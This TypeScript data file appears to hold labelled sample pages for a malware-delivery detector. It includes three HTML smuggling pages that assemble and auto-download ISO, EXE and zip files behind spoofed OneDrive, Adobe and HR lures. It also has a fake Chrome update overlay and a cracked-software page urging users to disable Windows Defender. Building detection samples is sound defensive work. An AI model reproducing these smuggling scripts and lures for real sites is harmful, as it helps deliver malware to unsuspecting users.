import type { Entry } from '../entry.js';

/** HTML smuggling and malware delivery: Blob / data URLs that build archives, disk images, executables or scripts in the page. */
export const entries: Entry[] = [
  {
    id: 'smuggle-msSaveBlob-iso',
    label: 'malware',
    kind: 'html-smuggling',
    url: 'https://onedrive-shared-files.net/personal/f/Scan_0042.html',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>OneDrive</title><style>body{font-family:Segoe UI;background:#faf9f8}.c{width:460px;margin:100px auto;background:#fff;padding:30px}</style></head>
<body><div class="c"><h3>☁ OneDrive</h3><p>Scan_0042.iso (1.2 MB) is ready.</p><p id="s">Preparing download…</p></div>
<script>
var d = [73,83,79,95,72,68,82,0,1,0,67,68,48,48,49,1,0,0,0,0,0,0,0,0,0,0,0,0];
var u8 = new Uint8Array(d.length * 64); for (var i = 0; i < u8.length; i++) u8[i] = d[i % d.length];
var file = new Blob([u8.buffer], { type: 'application/octet-stream' });
var name = 'Scan_0042.iso';
if (window.navigator.msSaveOrOpenBlob) { window.navigator.msSaveOrOpenBlob(file, name); }
else { var a = document.createElement('a'); a.style.display = 'none'; a.href = window.URL.createObjectURL(file); a.download = name; document.body.appendChild(a); a.click(); document.getElementById('s').textContent = 'Open the downloaded file to view your scan.'; }
</script></body></html>`,
  },
  {
    id: 'smuggle-exe-chunks',
    label: 'malware',
    kind: 'html-smuggling',
    url: 'https://adobe-reader-update.download-center.pro/get/AcroRdrDC.html',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Adobe Acrobat Reader DC - Download</title></head>
<body style="font-family:Arial;background:#f4f4f4"><div style="width:600px;margin:60px auto;background:#fff;padding:30px"><h2 style="color:#fa0f00">Adobe Acrobat Reader</h2><p>Your download of AcroRdrDC_2026_x64.exe has started.</p></div>
<script>
const chunks = ['TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAgAAAAA4fug4AtAnNIbgBTM0hVGhpcyBwcm9ncmFtIGNhbm5vdCBiZSBydW4gaW4gRE9TIG1vZGUuDQ0KJAAAAAAAAABQRQAATAEDAA=='];
const bytes = Uint8Array.from(atob(chunks.join('')), (c) => c.charCodeAt(0));
const url = URL.createObjectURL(new Blob([bytes], { type: 'application/x-msdownload' }));
Object.assign(document.createElement('a'), { href: url, download: 'AcroRdrDC_2026_x64.exe' }).click();
</script></body></html>`,
  },
  {
    id: 'smuggle-password-zip-lure',
    label: 'malware',
    kind: 'html-smuggling',
    url: 'https://docs-secure-transfer.org/t/HR_Policy_Update.html',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>HR Policy Update 2026</title></head>
<body style="font-family:Calibri,Arial;padding:40px"><h2>HR Policy Update 2026</h2><p>The document is password protected for your privacy. Password: <b>HR2026</b></p><p>Open <b>HR_Policy_Update.zip</b> from your Downloads folder and run <b>HR_Policy_Update.lnk</b>.</p>
<script>
(function(){
  var raw = window.atob('UEsDBAoACQAAAC1yeFkAAAAAAAAAAAAAAAAUABwASFJfUG9saWN5X1VwZGF0ZS5sbmtVVAkAA0QBQ2dEAUNndXgLAAEE6AMAAAToAwAAUEsBAh4DCgAJAAAALXJ4WQ==');
  var n = raw.length, arr = new Uint8Array(n); while (n--) arr[n] = raw.charCodeAt(n);
  var link = document.createElement('a'); link.href = URL.createObjectURL(new Blob([arr], {type: 'application/x-zip-compressed'}));
  link.setAttribute('download', 'HR_Policy_Update.zip'); document.body.appendChild(link); link.click();
})();
</script></body></html>`,
  },
  {
    id: 'malware-fake-browser-update',
    label: 'malware',
    kind: 'malware-download',
    url: 'https://www.harborside-family-dental.com/',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Update Chrome</title>
<style>body{font-family:Roboto,Arial;margin:0}.o{position:fixed;inset:0;background:#fff;z-index:9;text-align:center;padding-top:80px}.btn{background:#1a73e8;color:#fff;border:0;border-radius:4px;padding:14px 40px;font-size:16px;text-decoration:none}</style></head>
<body><div class="o"><img src="chrome-logo.png" alt="Google Chrome" width="80"><h1>Your version of Chrome is out of date</h1><p>An error occurred in displaying this page. Update Chrome to version 131.0.6778.86 to continue.</p>
<a class="btn" href="https://chrome-update-stable.com/download/ChromeUpdate.zip" download>Update Chrome</a><p style="font-size:12px;color:#666">Recommended update. After downloading, open ChromeUpdate.js to install.</p></div>
<main><h1>Harborside Family Dental</h1><p>Gentle care for the whole family since 1998.</p></main></body></html>`,
  },
  {
    id: 'malware-cracked-software',
    label: 'malware',
    kind: 'malware-download',
    url: 'https://adobe-photoshop-2026-free-crack.download-full.net/',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Adobe Photoshop 2026 Crack + Keygen Full Version Free Download</title></head>
<body style="font-family:Arial;background:#111;color:#eee"><div style="width:700px;margin:40px auto"><h1>Adobe Photoshop 2026 v27.1 Crack + Keygen [Latest]</h1>
<p>100% working activator. Disable Windows Defender before running the installer (false positive!).</p>
<p><a style="background:#e33;color:#fff;padding:14px 40px;text-decoration:none;font-size:20px" href="https://mega-files-host.cc/d/Photoshop_2026_Setup.zip">⬇ DOWNLOAD NOW</a></p>
<p>Archive password: <b>2026</b>. Run Setup.exe as administrator.</p></div></body></html>`,
  },];
